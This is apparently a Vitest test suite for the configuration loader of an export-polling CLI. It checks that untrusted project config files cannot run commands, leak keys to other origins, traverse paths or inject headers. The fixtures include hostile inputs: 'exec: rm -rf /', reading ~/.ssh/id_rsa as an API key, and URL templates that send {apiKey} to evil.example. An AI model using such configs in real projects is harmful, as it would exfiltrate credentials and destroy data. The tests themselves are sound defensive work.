import { expect, test } from 'vitest';

import { requireSound } from '../../../src/config/configuration.ts';
import { ConfigError } from '../../../src/errors.ts';
import { builtinText } from '../../../src/profiles/builtin.ts';
import { createWorld, type World } from '../world.ts';

const EVIL = 'https://evil.example';

async function problemsOf(world: World, configFile?: string): Promise<string[]> {
  return (await world.load({}, configFile)).problems.map(({ message }) => message);
}

test.each([
  ['exec', 'exec: rm -rf /'],
  ['exports.a.exec', 'exports: { a: { id: 1, exec: rm } }'],
  ['providers.webadmit.apiKey.command', 'providers: { webadmit: { apiKey: { command: [rm] } } }'],
])(
  'a file found by search may not name a program as %s; with --config, or as the user file, it may',
  async (key, text) => {
    const world = createWorld();
    const path = world.project(text);
    const [problem] = await problemsOf(world);
    expect(problem).toContain(`${key} names a program to run`);
    expect(problem).toContain(`--config ${path}`);
    expect(await problemsOf(world, path)).toEqual([]);
    const other = createWorld();
    other.user(text);
    expect(await problemsOf(other)).toEqual([]);
  },
);

test.each([
  ['ping', `ping: ${EVIL}/check`],
  ['ciOutput', 'ciOutput: "gitlab:../x"'],
])('nor where runs are reported to, as %s; with --config, or as the user file, it may', async (key, text) => {
  const world = createWorld();
  const path = world.project(text);
  const { problems, settings } = await world.load();
  expect(problems.map(({ message }) => message)).toEqual([
    `${path}:1: ${key} says where runs are reported to; a file found by search may not. If you trust it, pass it with --config ${path}`,
  ]);
  // Not even to tell that the configuration is wrong.
  expect(settings).not.toHaveProperty(key);
  expect((await world.load({}, path)).settings).toHaveProperty(key);
  const other = createWorld();
  other.user(text);
  expect((await other.load()).settings).toHaveProperty(key);
});

test.each([
  ['the environment', { EXPORTPOLL_WEBADMIT_API_KEY: 'env-key' }, `baseUrl: ${EVIL}`],
  ['the environment by name', { KEY: 'env-key' }, `baseUrl: ${EVIL}, apiKey: "\${KEY}"`],
  ['the environment by name, in part', { KEY: 'env-key' }, `baseUrl: ${EVIL}, apiKey: "key-\${KEY}"`],
  ['a secret file', {}, `baseUrl: ${EVIL}, apiKey: { file: ~/.ssh/id_rsa }`],
  [
    'the environment as part of the address',
    { KEY: 'env-key' },
    `baseUrl: "${EVIL}/\${KEY}", apiKey: its-own-key`,
  ],
])('a file found by search may not send what is in %s to an origin of its own', async (_, env, entry) => {
  const world = createWorld(env);
  const path = world.project(`providers: { webadmit: { ${entry} } }`);
  const configuration = await world.load();
  expect(configuration.problems).toHaveLength(1);
  expect(configuration.problems[0]?.message).toContain(`to ${EVIL}, which neither`);
  expect(configuration.problems[0]?.message).toContain(`--config ${path}`);
  expect(() => configuration.account('webadmit')).toThrow(ConfigError);
  expect(await problemsOf(world, path)).toEqual([]);
});

test('nor may it send the user file’s secret there, whichever way it names the origin', async () => {
  const world = createWorld();
  world.user('providers:\n  webadmit: { apiKey: users-key }\n  mine: { use: webadmit, apiKey: my-key }');
  const evilProfile = builtinText('webadmit').replace('https://api.webadmit.org', EVIL);
  const evilOrigins = builtinText('webadmit').replace('id:\n', `origins: [${EVIL}]\n\nid:\n`);
  world.write('home/work/evil.yaml', evilProfile);
  world.write('home/work/origins.yaml', evilOrigins);
  for (const name of ['webadmit', 'mine']) {
    for (const entry of [`baseUrl: ${EVIL}`, 'profile: evil.yaml', 'profile: origins.yaml']) {
      world.project(`providers: { ${name}: { ${entry} } }`);
      const problems = await problemsOf(world);
      expect(problems).toHaveLength(1);
      expect(problems[0]).toContain(EVIL);
    }
  }
});

/** The profile of webadmit as a file would redefine it, its key no secret, with one more thing changed. */
function redefined(from: string | RegExp, to: string): string {
  const open = builtinText('webadmit').replace('access, secret: true', 'access');
  const changed = open.replace(from, to);
  if (changed === open) throw new Error(`nothing like ${from} in the profile`);
  return changed;
}

const STATUS_URL = "'{+baseUrl}/api/v1/exports/{exportId}/export_files/{fileId}'";

test.each([
  ['in the status request', redefined(STATUS_URL, `'${EVIL}/steal/{apiKey}'`), EVIL],
  [
    'in a follow-up',
    redefined(
      /^files:/m,
      `followUps: [{ as: x, when: ready, request: { url: '${EVIL}/{apiKey}' } }]\nfiles:`,
    ),
    EVIL,
  ],
  [
    'in the link of a file',
    redefined('url: body.export_files.download_url', `template: ${EVIL}/{apiKey}`),
    EVIL,
  ],
  [
    'in a harmless request',
    redefined(
      "request: { url: '{+baseUrl}/api/v1/user_identities' }",
      `request: { url: '${EVIL}/{apiKey}' }`,
    ),
    EVIL,
  ],
  [
    'in a link that an expression gives under the name of the API root',
    redefined(
      'url: body.export_files.download_url',
      `template: '{+baseUrl}/{apiKey}'\n    with: { baseUrl: "'${EVIL}'" }`,
    ),
    'wherever',
  ],
  [
    'in a page that an expression gives under the name of the API root',
    redefined(
      /^files:/m,
      `followUps:\n  - as: x\n    when: ready\n    next: { baseUrl: "'${EVIL}'" }\n    request: { url: '{+baseUrl}/{apiKey}' }\nfiles:`,
    ),
    'wherever',
  ],
  [
    'in a link without a scheme',
    redefined('url: body.export_files.download_url', `template: //evil.example/{apiKey}`),
    'wherever',
  ],
  ['in a host that the id decides', redefined(STATUS_URL, "'https://{exportId}/{apiKey}'"), 'wherever'],
  ['in a host that the id goes on with', redefined(STATUS_URL, "'{+baseUrl}{fileId}/{apiKey}'"), 'wherever'],
  [
    'in a host that an expression gives',
    redefined(STATUS_URL, `'{+x}/{apiKey}'\n    with: { x: "'${EVIL}'" }`),
    'wherever "{+x}/{apiKey}" leads',
  ],
  [
    'in a host that an expression gives under the name of the API root',
    redefined(STATUS_URL, `'{+baseUrl}/{apiKey}'\n    with: { baseUrl: "'${EVIL}'" }`),
    'wherever',
  ],
])('a profile of its own cannot take a trusted secret along %s', async (_, profile, where) => {
  const binding = { env: { EXPORTPOLL_WEBADMIT_API_KEY: 'the-very-secret-key' }, user: '' };
  const inFile = { env: {}, user: 'providers: { webadmit: { apiKey: the-very-secret-key } }' };
  for (const { env, user } of [binding, inFile]) {
    for (const inline of [true, false]) {
      const world = createWorld(env);
      if (user !== '') world.user(user);
      world.write('home/work/evil.yaml', profile);
      const text = inline ? `\n${profile.replace(/^/gm, '      ')}` : ' evil.yaml';
      const path = world.project(`providers:\n  webadmit:\n    profile:${text}`);
      const configuration = await world.load();
      expect(configuration.problems.map(({ message }) => message).join('\n')).toContain(where);
      expect(() => configuration.account('webadmit')).toThrow(where);
      expect(JSON.stringify(configuration.sources)).not.toContain('the-very-secret-key');
      expect(configuration.profile('webadmit').variables['apiKey']?.secret).toBe(true);
      expect(await problemsOf(world, path)).toEqual([]);
    }
  }
});

test('a profile of its own cannot make a link of what it borrows under another name', async () => {
  const world = createWorld({ AWS_SECRET: 'the-very-secret-key' });
  world.user('providers: { acme: { baseUrl: "https://api.webadmit.org", use: webadmit } }');
  const profile = redefined(/\bapiKey\b/g, 'word').replace(
    'body.export_files.download_url',
    `"join('/', ['${EVIL}', vars.word])"`,
  );
  world.write('home/work/evil.yaml', profile);
  world.project('providers: { acme: { profile: evil.yaml, word: "${AWS_SECRET}" } }');
  const { problems, sources } = await world.load();
  expect(problems.map(({ message }) => message).join()).toContain('to wherever its links lead');
  expect(JSON.stringify(sources)).not.toContain('the-very-secret-key');
});

test('nor of a next page, which takes the headers of the first one along', async () => {
  const world = createWorld({ AWS_SECRET: 'the-very-secret-key' });
  world.user('providers: { acme: { baseUrl: "https://api.webadmit.org", use: webadmit } }');
  const profile = redefined(/\bapiKey\b/g, 'word')
    .replace('url: body.export_files.download_url', "template: '{+baseUrl}/file'")
    .replace(
      /^files:/m,
      `followUps:\n  - as: x\n    when: ready\n    next: "'${EVIL}'"\n    request: { url: '{+baseUrl}/x', headers: { x: '{word}' } }\nfiles:`,
    );
  world.write('home/work/evil.yaml', profile);
  world.project('providers: { acme: { profile: evil.yaml, word: "${AWS_SECRET}" } }');
  expect((await problemsOf(world)).join()).toContain('to wherever its links lead');
});

test('a profile of its own may send a trusted secret where it may go anyway', async () => {
  const world = createWorld({ EXPORTPOLL_WEBADMIT_API_KEY: 'env-key' });
  world.write('home/work/own.yaml', builtinText('webadmit').replace('interval: 3s', 'interval: 9s'));
  world.project('providers: { webadmit: { profile: own.yaml } }');
  expect(await problemsOf(world)).toEqual([]);
});

test('nor to a token endpoint of its own', async () => {
  const world = createWorld({
    EXPORTPOLL_PERSONIUM_PASSWORD: 'pass-word',
    EXPORTPOLL_PERSONIUM_BASE_URL: 'https://cell.example',
  });
  world.write(
    'home/work/evil.yaml',
    builtinText('personium').replace('{+baseUrl}/__token', `${EVIL}/__token`),
  );
  world.project('providers: { personium: { profile: evil.yaml, username: me } }');
  const problems = await problemsOf(world);
  expect(problems).toHaveLength(1);
  expect(problems[0]).toContain(EVIL);
  expect(problems[0]).not.toContain('cell.example,');
});

test.each([
  ['a secret that it holds itself, anywhere', {}, '', `webadmit: { baseUrl: ${EVIL}, apiKey: its-own-key }`],
  [
    'any secret to the origin of the built-in profile',
    { KEY: 'env-key' },
    '',
    'nursing: { use: webadmit, apiKey: "${KEY}" }',
  ],
  [
    'it also when it names that origin',
    { KEY: 'env-key' },
    '',
    'webadmit: { baseUrl: "https://api.webadmit.org/", apiKey: "${KEY}" }',
  ],
  [
    'it to the origin that the user file names',
    {},
    'webadmit: { baseUrl: "https://pre.example", apiKey: users-key }',
    'webadmit: { baseUrl: "https://pre.example/x" }',
  ],
  [
    'it where a second account has the origin of the user’s first',
    { KEY: 'env-key' },
    'webadmit: { baseUrl: "https://pre.example" }',
    'nursing: { use: webadmit, baseUrl: "https://pre.example", apiKey: "${KEY}" }',
  ],
  [
    'it to the origin that the environment names',
    { EXPORTPOLL_WEBADMIT_BASE_URL: 'https://pre.example', EXPORTPOLL_WEBADMIT_API_KEY: 'env-key' },
    '',
    `webadmit: { baseUrl: ${EVIL} }`,
  ],
])('a file found by search may send %s', async (_, env, user, project) => {
  const world = createWorld(env);
  if (user !== '') world.user(`providers:\n  ${user}`);
  world.project(`providers:\n  ${project}`);
  expect(await problemsOf(world)).toEqual([]);
});

test('a user file with a secret that others can read is refused', async () => {
  const world = createWorld();
  const path = world.user('providers:\n  webadmit:\n    apiKey: users-key', 0o640);
  expect(await problemsOf(world)).toEqual([
    `${path}:3: providers.webadmit.apiKey is a secret in a file that others can read: chmod 600 ${path}`,
  ]);
  world.user('providers:\n  webadmit:\n    apiKey: users-key', 0o600);
  expect(await problemsOf(world)).toEqual([]);
});

test('a user file that others can read may say where secrets are', async () => {
  const world = createWorld();
  world.user(
    'providers: { webadmit: { apiKey: { file: ~/key } }, rebilly: { organization: acme, jwt: "${JWT}" } }',
    0o644,
  );
  expect(await problemsOf(world)).toEqual([]);
});

test('a project file with a secret that others can read is warned of', async () => {
  const world = createWorld();
  const path = world.write(
    'home/work/.exportpollrc',
    'providers: { webadmit: { apiKey: its-own-key } }',
    0o644,
  );
  const { problems, warnings } = await world.load();
  expect(problems).toEqual([]);
  expect(warnings).toEqual([expect.stringContaining(`chmod 600 ${path}`)]);
});

test('all problems are thrown as one', async () => {
  const world = createWorld({ EXPORTPOLL_RETRIES: 'many' });
  world.project('exec: x\nproviders: { webadmit: { apikey: x } }');
  const configuration = await world.load();
  expect(configuration.problems).toHaveLength(3);
  expect(() => requireSound(configuration)).toThrow(
    configuration.problems.map(({ message }) => message).join('\n'),
  );
  expect(() => requireSound(configuration)).toThrow(ConfigError);
});

test('nothing is thrown when nothing is wrong', async () => {
  const configuration = await createWorld().load();
  expect(() => requireSound(configuration)).not.toThrow();
});

const ENV_KEY = { EXPORTPOLL_WEBADMIT_API_KEY: 'the-very-secret-key' };
const USER_KEY = 'providers: { webadmit: { apiKey: the-very-secret-key } }';
const ACME = `providers:
  acme:
    organization: the-very-secret-key
    apiKey: another-secret-key
    profile:
${builtinText('rebilly')
  .replace('{ description: organization id }', '{ description: id, secret: true }')
  .replace("'https://api.rebilly.com'", 'https://api.acme.example')
  .replace('/{organization}', '/x')
  .replace('organizations/{organization}/files', 'files')
  .replace(/^/gm, '      ')}`;

test.each([
  ['a built-in provider’s key in the environment', ENV_KEY, '', 'webadmit: { use: rebilly }'],
  ['it by its name', ENV_KEY, '', 'rebilly: { apiKey: "${EXPORTPOLL_WEBADMIT_API_KEY}" }'],
  ['it by its name, in part', ENV_KEY, '', 'rebilly: { apiKey: "x${HOME}${EXPORTPOLL_WEBADMIT_API_KEY}" }'],
  ['it as an address', ENV_KEY, '', 'rebilly: { organization: "${EXPORTPOLL_WEBADMIT_API_KEY}" }'],
  ['a built-in provider’s key in the user file', {}, USER_KEY, 'webadmit: { use: rebilly }'],
  [
    'the key of an account of the user’s',
    {},
    'providers: { mine: { use: webadmit, apiKey: the-very-secret-key } }',
    'mine: { use: rebilly }',
  ],
  ['what is secret for the user’s own profile only', {}, ACME, 'acme: { use: rebilly }'],
])('a file found by search may not send %s to another provider', async (_, env, user, project) => {
  const world = createWorld({ HOME: '/home/me', ...env });
  if (user !== '') world.user(user);
  const path = world.project(`providers:\n  ${project}`);
  const configuration = await world.load();
  expect(configuration.problems.map(({ message }) => message)).toEqual([
    expect.stringMatching(/would send .* to https:\/\/api\.rebilly\.com/),
  ]);
  expect(JSON.stringify(configuration.sources)).not.toContain('the-very-secret-key');
  expect(await problemsOf(world, path)).toEqual([]);
});

test('two providers that the user mixed up end in no circle', async () => {
  const world = createWorld({ KEY: 'env-key' });
  world.user('providers: { webadmit: { use: rebilly }, rebilly: { use: webadmit } }');
  world.project(`providers: { webadmit: { apiKey: "\${KEY}", baseUrl: ${EVIL} } }`);
  expect(await problemsOf(world)).toEqual([expect.stringContaining(EVIL)]);
});

test('a key may go to the same service for two providers', async () => {
  const world = createWorld({ EXPORTPOLL_MYTRACKER_RAW_SECRET_KEY: 'the-very-secret-key' });
  const secretKey = '${EXPORTPOLL_MYTRACKER_RAW_SECRET_KEY}';
  world.project(`providers: { mytracker-segment: { userId: '1', secretKey: "${secretKey}" } }`);
  expect(await problemsOf(world)).toEqual([]);
});

test('the user’s address in the environment counts although the rest of the account is not complete', async () => {
  const world = createWorld({
    EXPORTPOLL_PERSONIUM_BASE_URL: 'https://cell.example',
    EXPORTPOLL_PERSONIUM_PASSWORD: 'pass-word',
  });
  world.user('providers: { personium: { username: "${NOPE}" } }');
  world.project('providers: { personium: { username: me } }');
  expect(await problemsOf(world)).toEqual([]);
});

test('a secret in a user file that others can read is one also while something else is in effect', async () => {
  const world = createWorld(ENV_KEY);
  const path = world.user('providers: { webadmit: { apiKey: users-key } }', 0o604);
  expect(await problemsOf(world)).toEqual([expect.stringContaining(`chmod 600 ${path}`)]);
});

test.each(['Host', 'host', 'Connection', 'Content-Length', 'transfer-encoding', 'a b', ''])(
  'no profile may send a header %j of its own: it is part of where a request goes',
  async (header) => {
    const world = createWorld(ENV_KEY);
    const quoted = JSON.stringify(header);
    const inRequest = builtinText('webadmit').replace(
      'status:\n  request:',
      `status:\n  request:\n    headers: { ${quoted}: evil.example }`,
    );
    const inAuth = builtinText('webadmit').replace('header: x-api-key', `header: ${quoted}`);
    for (const profile of [inRequest, inAuth]) {
      world.write('home/work/evil.yaml', profile);
      world.project('providers: { webadmit: { profile: evil.yaml } }');
      expect((await problemsOf(world)).join()).toContain('must be the name of a header');
    }
  },
);

test.each([
  'organization: ..',
  'organization: a/../b',
  'path: /x/../../y',
  "path: '/x\\..\\y'",
  'path: /./x',
])('nobody can step out of the API root with %s', async (variable) => {
  const world = createWorld({ EXPORTPOLL_REBILLY_API_KEY: 'env-key' });
  world.project(`providers: { rebilly: { ${variable} } }`);
  expect(await problemsOf(world)).toEqual([expect.stringContaining('must not have "." or ".."')]);
});

test.each([
  ['a plain variable of another provider', 'rebilly: { organization: "${WEBADMIT_KEY}", apiKey: abcdefgh }'],
  ['a secret of another provider', 'rebilly: { organization: mine, apiKey: "${WEBADMIT_KEY}" }'],
  ['a part of its own address', 'webadmit: { baseUrl: "https://api.webadmit.org/${WEBADMIT_KEY}" }'],
])('what the user file takes from the environment as a secret is not to be used as %s', async (_, entry) => {
  const world = createWorld({ WEBADMIT_KEY: 'users-webadmit-key' });
  world.user('providers: { webadmit: { apiKey: "${WEBADMIT_KEY}" } }');
  const path = world.project(`providers: { ${entry} }`);
  expect(await problemsOf(world)).toEqual([expect.stringMatching(/would send .* to https:.*--config/)]);
  expect(await problemsOf(world, path)).toEqual([]);
});

test('but a file found by search may use it as the same secret of the same provider', async () => {
  const world = createWorld({ WEBADMIT_KEY: 'users-webadmit-key' });
  world.user('providers: { webadmit: { apiKey: "${WEBADMIT_KEY}" } }');
  world.project('providers: { webadmit: { apiKey: "${WEBADMIT_KEY}" } }');
  expect(await problemsOf(world)).toEqual([]);
});
